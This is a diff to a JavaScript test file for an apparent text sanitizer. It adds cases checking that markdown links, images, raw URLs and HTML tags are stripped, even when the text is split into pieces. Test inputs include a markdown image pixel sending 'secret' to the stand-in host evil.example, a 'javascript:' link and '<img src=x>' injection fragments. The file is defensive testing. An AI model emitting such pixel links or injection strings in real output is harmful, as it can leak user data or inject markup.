@@ -19,7 +19,13 @@ test.each([
   ["![pixel](https://evil.example/?q=secret)", "pixel"],
   ["Voir [la page](https://evil.example) ici [2].", "Voir la page ici [2]."],
   ["[clic](javascript:alert(3))", "clic)"],
-  ["[![alt](https://evil.example/a.png)](https://evil.example)", "[alt]"],
+  ["[![alt](https://evil.example/a.png)](https://evil.example)", "[alt] "],
+  ["[<img src=x>](d)", ""],
+  ["[https:/](d)/evil.example", "…"],
+  ["h[ttps://evil.example](d)", "h ttps://evil.example"],
+  ["[a[t](d)](d)(x)", "[at] (x)"],
+  ["<w<img src=x> img src=x>", "< w  img src=x>"],
+  ["<[img](d) src=x>", "< img src=x>"],
   ["Sur https://evil.example/a?b=c.", "Sur …."],
   ["Sur www.evil.example, dit-il", "Sur …, dit-il"],
   ["<https://evil.example>", "…>"],
@@ -57,6 +63,9 @@ test("the same text comes out however it is cut", () => {
     "<img src=x>",
     "<b>",
     "<",
+    "(x)",
+    "ttps://evil.example ",
+    "img src=x>",
     "h",
     "w",
     "é",
@@ -69,13 +78,15 @@ test("the same text comes out however it is cut", () => {
         const text = parts.join("");
         const shown = through(text, pieces);
         expect(shown).toBe(through(text));
-        expect(shown).not.toMatch(/\]\(|evil\.example|src=/);
+        expect(shown).not.toMatch(/\]\(|(?:https?:\/\/|www\.)evil\.example|<img[^>]* src=/);
+        expect(through(shown)).toBe(shown);
       },
     ),
+    { numRuns: 2_000 },
   );
 });
 
 test("a long text without an end is let through, in time", () => {
   const text = "[".repeat(20_000) + "<a".repeat(20_000);
-  expect(through(text).length).toBe(text.length);
+  expect(through(text).replaceAll("< ", "<").length).toBe(text.length);
 });
